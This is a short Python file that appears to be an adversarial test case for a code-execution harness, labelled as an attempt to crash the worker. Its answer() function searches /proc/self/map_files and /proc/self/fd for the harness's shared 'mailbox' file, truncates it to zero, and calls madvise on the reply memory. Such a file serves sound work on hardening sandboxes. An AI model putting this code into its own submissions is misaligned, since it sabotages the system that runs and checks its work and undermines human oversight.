# tries: to crash the worker by making the mailbox's file shorter through its mapping
# entry: calls
# verdict: accepted

import ctypes
import os


# @MAILBOX@


import glob


def answer(n):
    tried = 0
    for path in [*glob.glob("/proc/self/map_files/*"), *glob.glob("/proc/self/fd/*"), "/proc/self/map_files/%x-%x" % (HEAD, REPLY + (65 << 20))]:
        try:
            with open(path, "r+b", buffering=0) as file:
                if "mailbox" in os.readlink(path):
                    file.truncate(0)
                    return None
        except OSError:
            tried += 1
    libc = ctypes.CDLL(None, use_errno=True)
    libc.madvise(ctypes.c_void_p(REPLY), ctypes.c_size_t(65 << 20), 9)
    return n + 1 if tried else None
